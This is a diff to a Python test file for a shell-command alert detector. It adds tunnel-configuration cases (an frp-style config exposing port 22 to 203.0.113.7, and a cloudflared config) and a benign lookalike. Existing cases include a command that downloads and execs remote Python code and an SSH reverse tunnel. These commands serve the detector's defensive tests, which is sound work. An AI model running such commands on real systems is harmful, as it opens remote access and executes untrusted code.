@@ -52,6 +52,10 @@ def test_fetched_data_not_run(command):
     ("python3 -c \"import requests; exec(requests.get('https://x.example/a.py').text)\"", "remote_script_to_shell"),
     ("xterm -display 10.0.0.1:1", "xterm_remote_display"),
     ("printf 'Host x\\n RemoteForward 2222 localhost:22\\n' >> ~/.ssh/config", "ssh_reverse_tunnel"),
+    ("printf '[common]\\nserver_addr = 203.0.113.7\\n[ssh]\\nlocal_port = 22\\nremote_port = 6000\\n' > /tmp/c.ini",
+     "tunnel_configuration_written"),
+    ("cat > ~/.cloudflared/config.yml <<EOF\ntunnel: 6ff42ae2\ncredentials-file: /root/.cloudflared/6ff42ae2.json\nEOF",
+     "tunnel_configuration_written"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -61,6 +65,7 @@ def test_detected(command, rule):
     "python3 -c \"import urllib.request as u; print(u.urlopen('https://x.example/a.json').read())\"",
     "xterm -display :0",
     "printf 'Host x\\n  User git\\n' >> ~/.ssh/config",
+    "printf 'server_addr = 10.0.0.5\\nworkers = 4\\n' > app.ini",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
